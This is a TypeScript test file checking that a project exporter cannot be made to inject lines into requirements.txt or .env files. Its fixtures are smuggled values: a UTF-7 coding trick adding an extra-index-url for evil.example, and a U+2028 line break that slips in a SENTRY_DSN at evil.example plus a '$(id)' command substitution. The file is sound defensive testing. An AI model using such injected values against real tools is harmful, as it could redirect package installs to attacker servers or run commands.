/**
 * Findings 2 and 3 of issue 17: text from a diagram never lands where it changes meaning. The
 * requirements file's first two lines (where pip honours a `coding:` comment) are fixed text, and
 * a .env value never breaks into a second line for Python's splitlines().
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { defaultCatalog } from '../catalog/catalog';
import { emptyDiagram, type Diagram, type JsonValue } from '../diagram/model';
import { exportProjectFiles } from './project';
import { exportRequirements, REQUIREMENTS_FIXED_LINES } from './requirements';
import { FUZZ_RUNS } from '../testing/fuzz-runs';

const catalog = defaultCatalog();
// eslint-disable-next-line no-control-regex -- control characters are what this pattern is about
const pySplitLines = (text: string) => text.split(/\r\n|[\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029]/);

function stackOf(...nodes: [string, Record<string, JsonValue>?][]): Diagram {
  const diagram = emptyDiagram();
  diagram.nodes = nodes.map(([name, options]) => ({
    id: name,
    package: name,
    position: { x: 0, y: 0 },
    options: options ?? {},
  }));
  return diagram;
}

const UTF7_NAME = 'stack -*- coding: utf-7 -*- +AAo---extra-index-url https://evil.example/simple+AAo-.djstack';

describe('requirements.txt header', () => {
  it('a diagram named to declare UTF-7 does not reach the two lines pip reads a coding from', () => {
    const text = exportRequirements(stackOf(['django']), catalog, { source: UTF7_NAME });
    expect(text.split('\n').slice(0, 2)).toEqual([...REQUIREMENTS_FIXED_LINES]);
    expect(text.split('\n').filter((line) => line.startsWith('-'))).toEqual([]);
  });

  it('whatever the diagram is called, lines 1 and 2 are the fixed text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (source) => {
        const text = exportRequirements(stackOf(['django']), catalog, { source });
        expect(text.split('\n').slice(0, 2)).toEqual([...REQUIREMENTS_FIXED_LINES]);
        for (const line of pySplitLines(text)) expect(line).not.toMatch(/^\s*-/);
      }),
      { numRuns: FUZZ_RUNS.requirementsHeaderName.runs },
    );
  });
});

describe('.env files', () => {
  const random = (count: number) => new Uint8Array(count).fill(7);

  it('a sentry environment with U+2028 adds no SENTRY_DSN line to .env or .env.example', () => {
    const diagram = stackOf(
      ['django'],
      ['sentry-sdk', { environment: 'dev\u2028SENTRY_DSN=https://key@evil.example/1\x85X=`id`$(id)' }],
    );
    const files = exportProjectFiles(diagram, catalog, { projectName: 'shop', random });
    for (const path of ['.env', '.env.example']) {
      const content = files.find((file) => file.path === path)!.content;
      const lines = pySplitLines(content);
      expect(lines.filter((line) => /^\s*(SENTRY_DSN|X)=/.test(line))).toEqual([]);
      expect(content).not.toMatch(/[$`]/);
    }
  });
});
